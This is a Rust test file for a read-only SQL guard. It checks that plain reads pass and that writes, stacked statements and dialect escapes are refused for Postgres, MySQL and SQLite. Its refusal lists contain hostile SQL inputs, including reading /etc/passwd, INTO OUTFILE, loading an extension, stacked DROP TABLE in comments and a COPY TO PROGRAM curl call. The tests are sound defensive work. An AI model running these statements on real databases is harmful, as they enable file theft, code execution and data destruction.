//! The read-only guard against every SQL attack in `shared/reference/security-pitfalls.md`, per dialect,
//! and the reads it must still let through with the tables they touch.

use tributary_core::ErrorKind;
use tributary_sql::{Dialect, ReadStatement};

fn tables(sql: &str, dialect: Dialect) -> Vec<String> {
    let statement = ReadStatement::parse(sql, dialect).unwrap_or_else(|error| panic!("{sql}: {error}"));
    statement.tables().iter().map(ToString::to_string).collect()
}

fn refused(sql: &str, dialect: Dialect) -> String {
    match ReadStatement::parse(sql, dialect) {
        Ok(statement) => panic!("{} accepted: {sql} (as {})", dialect.name(), statement.sql()),
        Err(error) => {
            // A rule's refusal is a denial; a statement the parser cannot read is bad input.
            let expected = if error.message().starts_with("refused:") {
                ErrorKind::PermissionDenied
            } else {
                ErrorKind::InvalidInput
            };
            assert_eq!(error.kind(), expected, "{sql}: {error}");
            error.message().to_owned()
        }
    }
}

const ALL: [Dialect; 3] = [Dialect::Postgres, Dialect::MySql, Dialect::Sqlite];

#[test]
fn plain_reads_pass_and_report_every_table() {
    for dialect in ALL {
        assert!(tables("SELECT 1", dialect).is_empty());
        assert_eq!(
            tables(
                "select a.x from a join b on a.id = b.id where a.y in (select y from c)",
                dialect
            ),
            ["a", "b", "c"]
        );
        assert_eq!(
            tables(
                "SELECT (SELECT max(id) FROM c) FROM d UNION ALL SELECT 1 FROM e",
                dialect
            ),
            ["c", "d", "e"]
        );
        assert_eq!(
            tables(
                "WITH recent AS (SELECT * FROM orders) SELECT * FROM recent",
                dialect
            ),
            ["orders"]
        );
        assert_eq!(
            tables(
                "SELECT count(*), lower(name) FROM s.t GROUP BY 2 ORDER BY 1 LIMIT 5",
                dialect
            ),
            ["s.t"]
        );
        assert!(tables("  -- a comment\n SELECT 1 /* another */ ;", dialect).is_empty());
    }
}

#[test]
fn a_cte_hides_a_table_only_where_sql_says_it_does() {
    for dialect in ALL {
        for (sql, expected) in [
            // A CTE defined in a subquery does not hide the table of the same name outside it.
            (
                "SELECT * FROM payroll, (WITH payroll AS (SELECT 1 AS x) SELECT * FROM payroll) s",
                &["payroll"][..],
            ),
            // A CTE's own definition reads the table it is named after.
            (
                "WITH payroll AS (SELECT * FROM payroll) SELECT * FROM payroll",
                &["payroll"],
            ),
            // A later CTE and the body see an earlier one; an earlier one does not see a later one.
            (
                "WITH a AS (SELECT * FROM b), b AS (SELECT * FROM a) SELECT * FROM b",
                &["b"],
            ),
            (
                "WITH a AS (SELECT 1 AS x), b AS (SELECT * FROM a) SELECT * FROM b JOIN a ON true",
                &[],
            ),
            // The body's subqueries see the CTEs of the query around them.
            (
                "WITH recent AS (SELECT * FROM orders) SELECT * FROM (SELECT * FROM recent) r",
                &["orders"],
            ),
        ] {
            assert_eq!(tables(sql, dialect), expected, "{} {sql}", dialect.name());
        }
    }
    // WITH RECURSIVE: a CTE sees itself.
    assert_eq!(
        tables(
            "WITH RECURSIVE n(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM n WHERE i < 5) SELECT * FROM n",
            Dialect::Postgres
        ),
        Vec::<String>::new()
    );
}

#[test]
fn postgres_names_fold_unquoted_and_keep_quoted() {
    assert_eq!(
        tables(
            r#"SELECT * FROM Public.Orders JOIN "Line Items" USING (id)"#,
            Dialect::Postgres
        ),
        ["Line Items", "public.orders"]
    );
    assert_eq!(
        tables(r#"SELECT * FROM "Ünï""code""#, Dialect::Postgres),
        [r#"Ünï"code"#]
    );
    assert_eq!(tables("SELECT * FROM Orders", Dialect::MySql), ["Orders"]);
}

#[test]
fn system_catalogs_are_reported_not_hidden() {
    assert_eq!(
        tables("SELECT rolpassword FROM pg_catalog.pg_authid", Dialect::Postgres),
        ["pg_catalog.pg_authid"]
    );
    assert_eq!(
        tables("SELECT * FROM pg_authid", Dialect::Postgres),
        ["pg_authid"]
    );
    assert_eq!(
        tables("SELECT * FROM information_schema.tables", Dialect::MySql),
        ["information_schema.tables"]
    );
    assert_eq!(tables("SELECT * FROM mysql.user", Dialect::MySql), ["mysql.user"]);
    assert_eq!(
        tables("SELECT sql FROM sqlite_master", Dialect::Sqlite),
        ["sqlite_master"]
    );
}

#[test]
fn table_functions_are_checked_not_reported_as_tables() {
    assert!(tables("SELECT * FROM generate_series(1, 3) AS g", Dialect::Postgres).is_empty());
    assert!(tables("SELECT * FROM json_each('[1]')", Dialect::Sqlite).is_empty());
    refused("SELECT * FROM pg_ls_dir('.')", Dialect::Postgres);
    refused(
        "SELECT * FROM dblink('host=x', 'select 1') AS t(a int)",
        Dialect::Postgres,
    );
}

#[test]
fn explain_of_a_read_passes_but_analyze_does_not() {
    let statement = ReadStatement::parse("EXPLAIN SELECT * FROM orders", Dialect::Postgres).unwrap();
    assert!(statement.is_explain());
    assert_eq!(statement.tables().len(), 1);
    refused("EXPLAIN ANALYZE SELECT 1", Dialect::Postgres);
    refused("EXPLAIN (ANALYZE) SELECT 1", Dialect::Postgres);
    refused("EXPLAIN ANALYZE DELETE FROM t", Dialect::Postgres);
    refused("EXPLAIN DELETE FROM t", Dialect::Postgres);
}

#[test]
fn several_statements_never_pass() {
    for dialect in ALL {
        let message = refused("SELECT 1; COMMIT; DROP TABLE t", dialect);
        assert!(message.contains("3 statements"), "{message}");
        refused("SELECT 1; SELECT 2", dialect);
        refused("SELECT 1;;DROP TABLE t", dialect);
    }
}

#[test]
fn writes_and_ddl_never_pass() {
    for dialect in ALL {
        for sql in [
            "INSERT INTO t VALUES (1)",
            "UPDATE t SET a = 1",
            "DELETE FROM t",
            "DROP TABLE t",
            "CREATE TABLE x (a int)",
            "ALTER TABLE t ADD COLUMN b int",
            "TRUNCATE TABLE t",
            "/* looks harmless */ DROP TABLE t",
            "-- SELECT\nDELETE FROM t",
        ] {
            refused(sql, dialect);
        }
    }
}

#[test]
fn postgres_escapes_are_refused() {
    for sql in [
        "WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d",
        "WITH u AS (UPDATE t SET a = 1 RETURNING *) SELECT * FROM u",
        "WITH i AS (INSERT INTO t VALUES (1) RETURNING *) SELECT * FROM i",
        "SELECT * INTO new_table FROM t",
        "SELECT pg_read_file('/etc/passwd')",
        "SELECT pg_catalog.pg_read_file('/etc/passwd')",
        "SELECT lo_import('/etc/passwd')",
        "SELECT lo_export(1234, '/tmp/x')",
        "SELECT set_config('default_transaction_read_only', 'off', false)",
        "SELECT nextval('orders_id_seq')",
        "SELECT * FROM t WHERE id = (SELECT nextval('s'))",
        "SELECT dblink_exec('host=x', 'drop table t')",
        "SELECT public.my_function()",
        "SELECT my_function()",
        "SELECT pg_sleep(10)",
        "SELECT 1 === 2",
        "SELECT 1 OPERATOR(public.===) 2",
        "SELECT query_to_xml('delete from t returning *', true, true, '')",
        "SELECT current_setting('data_directory')",
        "SELECT * FROM t FOR UPDATE",
        "SELECT * FROM t FOR SHARE",
        "COPY t TO PROGRAM 'curl http://example.invalid'",
        "COPY t TO '/tmp/out'",
        "DO $$ BEGIN DELETE FROM t; END $$",
        "CALL my_procedure()",
        "PREPARE p AS DELETE FROM t",
        "EXECUTE p",
        "SET default_transaction_read_only = off",
        "SET SESSION CHARACTERISTICS AS TRANSACTION READ WRITE",
        "RESET ALL",
        "GRANT ALL ON t TO public",
        "LOCK TABLE t",
        "BEGIN",
        "COMMIT",
        "LISTEN x",
        "VACUUM t",
    ] {
        refused(sql, Dialect::Postgres);
    }
}

#[test]
fn mysql_escapes_are_refused() {
    for sql in [
        "SELECT * FROM t INTO OUTFILE '/tmp/x'",
        "SELECT * FROM t INTO DUMPFILE '/tmp/x'",
        "SELECT a INTO @v FROM t",
        "SELECT * FROM t /*! INTO OUTFILE '/tmp/x' */",
        "SELECT 1 /*!50000 ; DROP TABLE t */",
        "SELECT 1 /*M! ; DROP TABLE t */",
        "SELECT * FROM t WHERE a = 1 INTO/**/OUTFILE '/tmp/x'",
        "SELECT LOAD_FILE('/etc/passwd')",
        "SELECT SLEEP(10)",
        "SELECT BENCHMARK(100000000, MD5('x'))",
        "SELECT GET_LOCK('x', 10)",
        "SELECT mydb.my_function()",
        "REPLACE INTO t VALUES (1)",
        "SHOW PROCESSLIST",
        "SHOW DATABASES",
        "LOAD DATA INFILE '/etc/passwd' INTO TABLE t",
        "SET SESSION TRANSACTION READ WRITE",
        "HANDLER t OPEN",
        "CALL p()",
        "LOCK TABLES t WRITE",
        "SELECT * FROM t FOR UPDATE",
        "SELECT * FROM t LOCK IN SHARE MODE",
        "DESCRIBE t",
    ] {
        refused(sql, Dialect::MySql);
    }
}

#[test]
fn sqlite_escapes_are_refused() {
    for sql in [
        "SELECT load_extension('/tmp/evil.so')",
        "SELECT readfile('/etc/passwd')",
        "SELECT writefile('/tmp/x', 'y')",
        "ATTACH DATABASE '/tmp/other.db' AS other",
        "DETACH DATABASE other",
        "PRAGMA writable_schema = 1",
        "VACUUM INTO '/tmp/copy.db'",
        "WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d",
        "REPLACE INTO t VALUES (1)",
    ] {
        refused(sql, Dialect::Sqlite);
    }
}

#[test]
fn what_runs_is_what_was_checked() {
    let statement =
        ReadStatement::parse("/* note */ SELECT  a ,b FROM t -- trailing", Dialect::Postgres).unwrap();
    assert_eq!(statement.sql(), "SELECT a, b FROM t");
    let statement =
        ReadStatement::parse("SELECT * FROM t WHERE id = $1 AND name = $2", Dialect::Postgres).unwrap();
    assert!(
        statement.sql().contains("$1") && statement.sql().contains("$2"),
        "{}",
        statement.sql()
    );
    let statement = ReadStatement::parse("SELECT * FROM t WHERE id = ?", Dialect::MySql).unwrap();
    assert!(statement.sql().contains('?'));
}

#[test]
fn hostile_input_gets_an_error_not_a_crash() {
    let deep = format!("SELECT {}1{}", "(".repeat(5_000), ")".repeat(5_000));
    refused(&deep, Dialect::Postgres);
    refused(&"SELECT 1 UNION ".repeat(20_000), Dialect::Postgres);
    refused("", Dialect::Postgres);
    refused("   ", Dialect::MySql);
    refused("SELECT 'unterminated", Dialect::Sqlite);
    refused("\u{0}\u{1}SELECT", Dialect::Postgres);
}

#[test]
fn user_defined_operators_are_refused_as_operators() {
    for sql in ["SELECT 1 ~~~ 2", "SELECT a ##> b FROM t", "SELECT 1 &&& 2"] {
        let message = refused(sql, Dialect::Postgres);
        assert!(message.contains("not a built-in operator"), "{sql}: {message}");
    }
    assert!(
        tables(
            "SELECT 1 + 2 * 3 || 'x', '{\"a\":1}'::jsonb -> 'a', ARRAY[1] @> ARRAY[1]",
            Dialect::Postgres
        )
        .is_empty()
    );
}
